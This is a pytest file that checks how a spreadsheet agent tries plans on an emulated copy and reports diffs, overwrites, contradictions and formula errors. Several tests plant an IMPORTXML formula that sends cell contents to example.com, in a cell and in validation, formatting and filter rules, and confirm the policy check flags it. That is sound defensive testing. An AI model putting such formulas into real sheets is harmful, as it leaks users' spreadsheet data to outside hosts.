"""What comes out of trying plans on a copy, through the real client on the local Sheets API."""

from __future__ import annotations

from typing import Any

import pytest

from sheets_agent.emulator.service import Emulator
from sheets_agent.emulator.transport import EmulatorHttp
from sheets_agent.planners.copies import Copies
from sheets_agent.planners.draft import read_plan
from sheets_agent.sheets.client import SheetsClient
from sheets_agent.stages.approve import risks
from sheets_agent.state.planned import CellChange, Diff, Own, Severity, Trial

ROWS = [
    ["Регион", "Штук", "Цена"],
    ["Север", 4, 2.5],
    ["Юг", 0, 10],
    ["Север", 6, 1],
]


class Bench:
    def __init__(self) -> None:
        emulator = Emulator()
        self.client = SheetsClient(EmulatorHttp(emulator), sleep=lambda seconds: None)
        self.id = self.client.create("Книга")["spreadsheetId"]
        self.client.batch_update(
            self.id, [{"updateSheetProperties": {"properties": {"sheetId": 0, "title": "Данные"}, "fields": "title"}}]
        )
        self.client.update_values(self.id, "'Данные'!A1", ROWS)
        self.copies = Copies(self.client, self.id)

    def attempt(self, *steps: dict[str, object], own: tuple[str, ...] = ()) -> Trial:
        return self.copies.attempt(read_plan({"steps": list(steps)}), Own(ranges=own, cells=len(own)))


@pytest.fixture
def bench() -> Bench:
    return Bench()


def formula(target: str, text: str) -> dict[str, object]:
    return {"action": "repeat_formula", "target": target, "options": [f"formula={text}"]}


def value(target: str, text: str) -> dict[str, object]:
    return {"action": "write_cell", "target": target, "options": [f"value={text}"]}


def kinds(trial: Trial) -> list[str]:
    return [fact.kind for fact in trial.facts]


def test_a_clean_plan_has_no_facts_and_changes_nothing_but_the_copy(bench: Bench) -> None:
    trial = bench.attempt(value("'Данные'!D1", "Сумма"), formula("'Данные'!D2:D4", "=B2*C2"))
    assert trial.facts == ()
    assert [(change.cell, change.after, change.result) for change in trial.diff.cells] == [
        ("D1", "Сумма", ""),
        ("D2:D4", "=B2*C2", "10; 0; 6"),
    ]
    assert trial.diff.cell_count == 4
    assert bench.client.values(bench.id, "'Данные'!D1:D4") == []


def test_the_requests_of_a_trial_do_on_the_spreadsheet_what_they_did_on_the_copy(bench: Bench) -> None:
    sheet = {"action": "add_sheet", "target": "Итог"}
    pivot = {
        "action": "create_pivot",
        "target": "'Итог'!B2",
        "source": "'Данные'!A1:D4",
        "options": ["rows=Регион", "values=SUM of Сумма"],
    }
    trial = bench.attempt(value("'Данные'!D1", "Сумма"), formula("'Данные'!D2:D4", "=B2*C2"), sheet, pivot)
    assert trial.facts == ()
    bench.client.batch_update(bench.id, [request for step in trial.requests for request in step])
    assert bench.client.values(bench.id, "'Итог'!B2:C5")[1:] == [["Север", "16"], ["Юг", "0"], ["Grand Total", "16"]]


def test_errors_that_a_plan_brings_are_told_with_cell_cause_and_formula(bench: Bench) -> None:
    (fact,) = bench.attempt(formula("'Данные'!D2:D4", "=C2/B2")).errors
    assert (fact.kind, fact.step, fact.address) == ("error_value", 0, "'Данные'!D3")
    assert "#DIV/0!" in fact.sentence
    assert "=C3/B3" in fact.sentence


def test_an_error_that_a_later_step_mends_is_no_fact(bench: Bench) -> None:
    trial = bench.attempt(formula("'Данные'!D2:D4", "=C2/B2"), value("'Данные'!B3", "5"))
    assert trial.errors == ()


def test_errors_that_were_there_before_are_not_the_plans(bench: Bench) -> None:
    bench.client.update_values(bench.id, "'Данные'!F1", [["=1/0"]])
    trial = bench.attempt(value("'Данные'!D1", "Сумма"))
    assert trial.facts == ()
    assert trial.standing_errors == ("'Данные'!F1",)


def test_overwriting_is_a_warning_with_what_is_lost(bench: Bench) -> None:
    (fact,) = bench.attempt(value("'Данные'!A1", "Область")).facts
    assert (fact.kind, fact.severity, fact.address) == ("overwrite", Severity.WARNING, "'Данные'!A1")
    assert "“Регион”" in fact.sentence


def test_writing_what_is_there_already_loses_nothing(bench: Bench) -> None:
    assert bench.attempt(value("'Данные'!A1", "Регион")).facts == ()


def test_what_the_run_wrote_itself_may_be_written_again(bench: Bench) -> None:
    assert bench.attempt(value("'Данные'!A1", "Область"), own=("'Данные'!A1:A2",)).facts == ()
    assert kinds(bench.attempt(value("'Данные'!A1", "Область"), own=("'Данные'!B1",))) == ["overwrite"]


def test_two_steps_on_the_same_cells_are_told(bench: Bench) -> None:
    trial = bench.attempt(formula("'Данные'!D2:D4", "=B2*C2"), value("'Данные'!D4", "7"))
    assert kinds(trial) == ["contradiction"]
    assert trial.errors == trial.facts
    assert "Step 2 writes “7” to 'Данные'!D4, where step 1 has written “=B4*C4”." in trial.facts[0].sentence
    formatted = {"action": "format_cells", "target": "'Данные'!D2:D4", "options": ["style=bold"]}
    assert kinds(bench.attempt(formula("'Данные'!D2:D4", "=B2*C2"), formatted)) == []


@pytest.mark.parametrize(
    ("first", "later"),
    [
        (value("'Данные'!D1", "a"), value("'Данные'!D1", "b")),
        (formula("'Данные'!D2:D4", "=B2*C2"), formula("'Данные'!D4", "=SUM(D2:D3)")),
        (formula("'Данные'!D2:D4", "=B2*C2"), formula("'Данные'!D3:D4", "=B3")),
        (value("'Данные'!A9", "Итого"), {"action": "write_table", "target": "'Данные'!A9", "values": [["Всего", "3"]]}),
    ],
)
def test_two_steps_that_write_different_values_to_a_cell_stop_the_plan(bench: Bench, first: Any, later: Any) -> None:
    assert "contradiction" in [fact.kind for fact in bench.attempt(first, later).errors]
    assert bench.attempt(first).errors == bench.attempt(later).errors == ()


def test_formulas_on_a_copied_sheet_are_judged_like_any(bench: Bench) -> None:
    copied = {"action": "duplicate_sheet", "source": "Данные", "target": "Копия"}
    bench.client.update_values(bench.id, "'Данные'!F1", [["=SUM(B2:B4)"]])
    assert bench.attempt(copied).errors == ()
    bench.client.update_values(bench.id, "'Данные'!F2", [['=IMPORTXML("https://example.com/?q="&A2,"//a")']])
    (fact,) = bench.attempt(copied).errors
    assert (fact.kind, "IMPORTXML" in fact.sentence, "Копия" in fact.address) == ("function_policy", True, True)


SENDS = '=IMPORTXML("https://example.com/?q="&A2,"//a")<>""'
CONDITION = {"type": "CUSTOM_FORMULA", "values": [{"userEnteredValue": SENDS}]}
AREA = {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 2, "startColumnIndex": 0, "endColumnIndex": 1}


@pytest.mark.parametrize(
    "rule",
    [
        {"setDataValidation": {"range": AREA, "rule": {"condition": CONDITION}}},
        {"addConditionalFormatRule": {"rule": {"ranges": [AREA], "booleanRule": {"condition": CONDITION}}}},
        {"setBasicFilter": {"filter": {"range": AREA, "criteria": {"0": {"condition": CONDITION}}}}},
    ],
    ids=["validation", "conditional format", "filter"],
)
def test_rules_on_a_copied_sheet_are_judged_like_any(bench: Bench, rule: dict[str, Any]) -> None:
    copied = {"action": "duplicate_sheet", "source": "Данные", "target": "Копия"}
    bench.client.batch_update(bench.id, [rule])
    (fact,) = bench.attempt(copied).errors
    assert (fact.kind, "IMPORTXML" in fact.sentence, "Копия" in fact.address) == ("function_policy", True, True)


def test_harmless_rules_on_a_copied_sheet_may_stay(bench: Bench) -> None:
    condition = {"type": "CUSTOM_FORMULA", "values": [{"userEnteredValue": "=$B1>-5"}]}
    listed = {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": text} for text in ("-5", "@home", "+1")]}
    rule = {"ranges": [AREA], "booleanRule": {"condition": condition}}
    validation = {"range": AREA, "rule": {"condition": listed}}
    bench.client.batch_update(
        bench.id, [{"addConditionalFormatRule": {"rule": rule}}, {"setDataValidation": validation}]
    )
    assert bench.attempt({"action": "duplicate_sheet", "source": "Данные", "target": "Копия"}).facts == ()


TABLE = {"action": "write_table", "target": "'Данные'!E1", "values": [["Месяц", "План"], ["1", ""], ["2", "0"]]}


@pytest.mark.parametrize(
    "steps",
    [
        [TABLE, formula("'Данные'!F2:F3", "=E2*10")],
        [value("'Данные'!E1", "Месяц"), TABLE],
        [value("'Данные'!E1", "1"), {"action": "fill_series", "target": "'Данные'!E1:E4", "options": ["start=1"]}],
        [formula("'Данные'!D2", "=B2*C2"), formula("'Данные'!D2:D4", "=B2*C2")],
        [value("'Данные'!E1", "a"), {"action": "clear_range", "target": "'Данные'!E1"}, value("'Данные'!E1", "b")],
        [TABLE, {"action": "format_cells", "target": "'Данные'!E1:F3", "options": ["style=bold"]}],
        [TABLE, {"action": "sort_range", "target": "'Данные'!E1:F3", "options": ["by=Месяц desc"]}],
        [value("'Данные'!E1", "a"), {"action": "insert_rows", "target": "'Данные'!1:1"}, value("'Данные'!E1", "b")],
    ],
)
def test_steps_that_mean_to_go_over_the_same_cells_do_not(bench: Bench, steps: Any) -> None:
    trial = bench.attempt(*steps)
    assert [fact.sentence for fact in trial.errors] == []
    assert trial.diff.cell_count


@pytest.mark.parametrize(
    ("text", "kind", "severity"),
    [
        ("=B2*(C2", "formula_syntax", "error"),
        ("=СУММ(B2:C2)", "unknown_function", "error"),
        ("=VLOOKUP(A2,A:C)", "argument_count", "error"),
        ("='Дaнные'!B2", "unknown_reference", "error"),
        ("=B2*Z2", "blank_reference", "warning"),
    ],
)
def test_what_is_wrong_with_a_formula(bench: Bench, text: str, kind: str, severity: str) -> None:
    found = {fact.kind: fact for fact in bench.attempt(formula("'Данные'!D2:D4", text)).facts}
    assert found[kind].severity == severity
    assert found[kind].step == 0


def test_an_unknown_sheet_and_a_refused_request_are_facts(bench: Bench) -> None:
    unknown, twice = bench.attempt(value("'Даные'!A9", "x"), {"action": "add_sheet", "target": "Данные"}).facts
    assert (unknown.kind, unknown.severity) == ("invalid_action", "error")
    assert "Данные" in unknown.sentence
    assert twice.kind in ("invalid_action", "refused")


def test_a_step_after_a_failed_one_is_still_tried(bench: Bench) -> None:
    trial = bench.attempt(value("'Нет'!A1", "x"), value("'Данные'!D1", "y"))
    assert [bool(requests) for requests in trial.requests] == [False, True]
    assert trial.diff.cell_count == 1


def test_deleting_rows_is_told_as_an_object_and_not_as_a_thousand_cells(bench: Bench) -> None:
    trial = bench.attempt({"action": "delete_rows", "target": "'Данные'!3:3"})
    assert trial.diff.cell_count == 0
    assert len(trial.diff.objects) == 1


def test_a_sheet_that_is_deleted_breaks_what_refers_to_it(bench: Bench) -> None:
    bench.client.batch_update(bench.id, [{"addSheet": {"properties": {"title": "Ссылки", "sheetId": 5}}}])
    bench.client.update_values(bench.id, "'Ссылки'!A1", [["='Данные'!B2"]])
    (fact,) = bench.attempt({"action": "delete_sheet", "target": "Данные"}).errors
    assert fact.address == "'Ссылки'!A1"


def test_an_error_on_a_sheet_that_the_plan_never_mentions_is_found(bench: Bench) -> None:
    bench.client.batch_update(bench.id, [{"addSheet": {"properties": {"title": "Ссылки", "sheetId": 5}}}])
    bench.client.update_values(bench.id, "'Ссылки'!A1", [["=1/'Данные'!B2"]])
    (fact,) = bench.attempt(value("'Данные'!B2", "0")).errors
    assert fact.address == "'Ссылки'!A1"


def test_an_old_error_that_moved_is_not_new(bench: Bench) -> None:
    bench.client.update_values(bench.id, "'Данные'!F4", [["=1/0"]])
    trial = bench.attempt({"action": "insert_rows", "target": "'Данные'!2:3"})
    assert trial.errors == ()
    assert trial.standing_errors == ("'Данные'!F6",)


def test_what_was_written_on_a_sheet_that_is_deleted_later_is_gone(bench: Bench) -> None:
    steps = [{"action": "add_sheet", "target": "T"}, value("T!A1", "x"), {"action": "delete_sheet", "target": "T"}]
    trial = bench.attempt(*steps)
    assert (trial.diff.cell_count, trial.written, trial.errors) == (0, (), ())


def test_sorting_shows_the_cells_that_change(bench: Bench) -> None:
    trial = bench.attempt({"action": "sort_range", "target": "'Данные'!A1:C4", "options": ["by=Цена desc"]})
    assert trial.diff.overwritten == trial.diff.cell_count > 0
    assert trial.facts == ()


def test_what_a_copy_covers_is_lost(bench: Bench) -> None:
    copy = {"action": "copy_range", "source": "'Данные'!A2:A3", "target": "'Данные'!B2", "options": ["what=values"]}
    (fact,) = bench.attempt(copy).facts
    assert fact.sentence == "Overwrites 2 cells that held something: 'Данные'!B2 (“4”), 'Данные'!B3 (“0”)."


def test_a_format_given_after_columns_moved_shows_in_the_difference(bench: Bench) -> None:
    insert = {"action": "insert_columns", "target": "'Данные'!D:D"}
    money = {"action": "format_cells", "target": "'Данные'!D2", "options": ["number_format=0.00"]}
    trial = bench.attempt(insert, formula("'Данные'!D2", "=B2*C2"), money)
    (change,) = trial.diff.cells
    assert change.result == "10.00"


def test_a_format_given_later_shows_in_the_difference(bench: Bench) -> None:
    money = {"action": "format_cells", "target": "'Данные'!D2", "options": ["number_format=0.00"]}
    trial = bench.attempt(formula("'Данные'!D2", "=B2*C2"), money)
    (change,) = trial.diff.cells
    assert change.result == "10.00"


def test_what_only_google_calculates_is_unknown_and_not_wrong(bench: Bench) -> None:
    outside, unknown = bench.attempt(value("'Данные'!F1", '=GOOGLEFINANCE("CURRENCY:USDRUB")')).facts
    assert (outside.kind, outside.severity) == ("external_function", Severity.WARNING)
    assert (unknown.kind, unknown.severity) == ("not_simulated", Severity.UNKNOWN)
    assert "GOOGLEFINANCE" in unknown.sentence


class TestOnVeryLargeSheets:
    """Only parts of such sheets are read, and parts may overlap."""

    @pytest.fixture(autouse=True)
    def enlarge(self, bench: Bench) -> None:
        grid = {"sheetId": 0, "gridProperties": {"rowCount": 400_000, "columnCount": 5}}
        fields = "gridProperties(rowCount,columnCount)"
        bench.client.batch_update(bench.id, [{"updateSheetProperties": {"properties": grid, "fields": fields}}])

    def test_an_error_that_a_later_step_removes_is_none(self, bench: Bench) -> None:
        trial = bench.attempt(
            formula("'Данные'!D2:D4", "=B2/B3"),
            {"action": "clear_range", "target": "'Данные'!D2:D4"},
            formula("'Данные'!D2:D3", "=1"),
            formula("'Данные'!D4", "=2"),
        )
        assert trial.errors == ()
        assert [(change.cell, change.after) for change in trial.diff.cells] == [
            ("D2", "=1"),
            ("D3", "=1"),
            ("D4", "=2"),
        ]

    def test_cells_that_an_earlier_step_filled_are_not_blank(self, bench: Bench) -> None:
        total = formula("'Данные'!E1", "=SUM(D1:D4)")
        trial = bench.attempt(total, formula("'Данные'!D2:D3", "=1"), {**total, "target": "'Данные'!E2"})
        assert [(fact.kind, fact.step) for fact in trial.facts] == [("blank_reference", 0)]

    def test_what_is_written_twice_has_its_last_content(self, bench: Bench) -> None:
        trial = bench.attempt(value("'Данные'!D1", "x"), formula("'Данные'!D1:D2", "=5"), value("'Данные'!D1", "y"))
        assert [(change.cell, change.after) for change in trial.diff.cells] == [("D1", "y"), ("D2", "=5")]

    def test_cells_that_moved_are_looked_at_where_they_are(self, bench: Bench) -> None:
        above = {"action": "insert_rows", "target": "'Данные'!1:1"}
        trial = bench.attempt(formula("'Данные'!D2", "=1/0"), above, formula("'Данные'!D3", "=1"))
        assert trial.errors == ()
        assert trial.diff.moved


def test_a_difference_and_a_later_one() -> None:
    def change(cell: str, before: str, after: str) -> CellChange:
        return CellChange(sheet="S", cell=cell, before=before, after=after)

    first = Diff(cells=(change("A1", "x", ""), change("E2:E13", "", "=A2")), cell_count=13, overwritten=1)
    later = Diff(
        cells=(change("A1", "", "y"), change("E5", "=A5", "=B5"), change("F1", "p", "q")), cell_count=3, overwritten=2
    )
    both = first.then(later)
    assert [(found.cell, found.before, found.after) for found in both.cells] == [
        ("A1", "x", "y"),
        ("E2:E13", "", "=A2"),
        ("E5", "", "=B5"),
        ("F1", "p", "q"),
    ]
    assert (both.cell_count, both.overwritten) == (14, 2)


@pytest.mark.parametrize(("local", "severity"), [(True, Severity.ERROR), (False, Severity.UNKNOWN)])
def test_a_step_that_the_copy_cannot_do_stops_a_local_plan_and_is_asked_about_on_a_live_one(
    bench: Bench, local: bool, severity: Severity
) -> None:
    pivot = {"action": "create_pivot", "target": "'Данные'!E1", "source": "'Данные'!A1:C4"}
    by_formula = {**pivot, "options": ["rows=Регион", "values=SUM of Штук", 'filters=Штук > =INDIRECT("A1")']}
    plan = read_plan({"steps": [by_formula]})
    bench.client.local = local
    trial = bench.copies.attempt(plan)
    [fact] = trial.facts
    assert (fact.kind, fact.severity) == ("not_tried", severity)
    assert risks(plan, trial) == (fact.sentence,)


def test_many_cells_that_only_google_calculates_are_all_unknown(bench: Bench) -> None:
    trial = bench.attempt(formula("'Данные'!F1:F400", '=GOOGLEFINANCE("CURRENCY:USDRUB")'))
    assert trial.errors == ()
    assert "and 399 more cells" in trial.facts[-1].sentence
